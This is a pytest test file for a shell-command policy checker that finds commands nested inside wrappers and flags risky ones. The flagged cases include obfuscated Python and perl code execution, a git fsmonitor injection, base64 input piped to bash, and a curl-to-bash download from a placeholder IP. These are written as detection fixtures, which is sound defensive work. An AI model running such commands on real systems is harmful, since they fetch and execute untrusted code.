"""Commands inside commands, and code inside code."""

from collections.abc import Callable

import pytest

from server_monitor.tasks.policy.verdict import Ruling, Verdict

Commands = Callable[[str], list[str]]


@pytest.mark.parametrize(
    ("script", "inner"),
    [
        ("sudo -u bob -n -- ls x", "ls x"),
        ("env -u A B=1 ls x", "ls x"),
        ("timeout -s KILL 5 nice -n 3 ls x", "ls x"),
        ("xargs -n 1 ls <<< x", "ls x"),
        ("echo x | xargs -I{} sh -c 'ls {}'", "ls x"),
        ("find . -name y -exec ls {} \\;", "ls ./…y"),
        ("ssh -p 22 web1 ls x", "ls x"),
        ("docker run --rm -v a:b --name c image ls x", "ls x"),
        ("kubectl -n prod exec -it web-1 -c app -- ls x", "ls x"),
        ("su bob -c 'ls x'", "ls x"),
        ("bash -c 'ls $1' _ x", "ls x"),
        ('f() { "$@"; }; f ls x', "ls x"),
        ("eval 'l''s' x", "ls x"),
        ("echo bHMgeA== | base64 -d | bash", "ls x"),
        ("trap 'ls x' EXIT", "ls x"),
        ('python3 -c \'import subprocess; subprocess.run(["ls", "x"])\'', "ls x"),
        ("awk 'BEGIN { system(\"ls x\") }'", "ls x"),
        ("flock /tmp/l ls x", "ls x"),
        ("watch -n 2 'ls x'", "ls x"),
        ("printf 'ls x\\n' > s.sh; chmod +x s.sh; ./s.sh", "ls x"),
        ("crontab <<< '* * * * * ls x'", "ls x"),
    ],
)
def test_the_command_inside_is_found(commands: Commands, script: str, inner: str) -> None:
    assert inner in commands(script)


@pytest.mark.parametrize(
    "command",
    [
        "python3 -c 'import json, sys; print(json.load(sys.stdin)[\"a\"])'",
        "python3 -m http.server 8000",
        "awk -F: '{ print $1 }' /etc/passwd",
        "sed -n '1,5p' f",
        "perl -pe 's/a/b/g' f",
        "node -e 'console.log(1 + 1)'",
        "ruby -e 'puts 1'",
        "tar -I zstd -cf x.tar.zst dir",
        "rsync -e 'ssh -p 2222' -a src/ web1:dst/",
        "git -c core.pager=cat log",
        'eval "$(ssh-agent -s)"',
    ],
)
def test_code_that_only_computes_is_allowed(verdict: Callable[[str], Verdict], command: str) -> None:
    assert verdict(command).ruling is Ruling.ALLOW


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("python3 -c \"__import__('os').system('ls')\"", "rce.code_primitive"),
        ("python3 -c \"getattr(__import__('o'+'s'), 'sys'+'tem')('ls')\"", "rce.code_primitive"),
        ("perl -e 'exec \"ls\"'", "rce.code_primitive"),
        ("git -c core.fsmonitor='touch x' status", "rce.code_primitive"),
        ("curl -s http://192.0.2.1/x | bash", "rce.download_to_interpreter"),
        ("$(cat list)", "opaque.command_name"),
        ("bash < list", "opaque.stdin_to_shell"),
        ("sh /tmp/x.sh", "opaque.script_from_tmp"),
    ],
)
def test_code_that_acts_or_is_not_known_is_named(verdict: Callable[[str], Verdict], command: str, rule: str) -> None:
    assert verdict(command).rule == rule
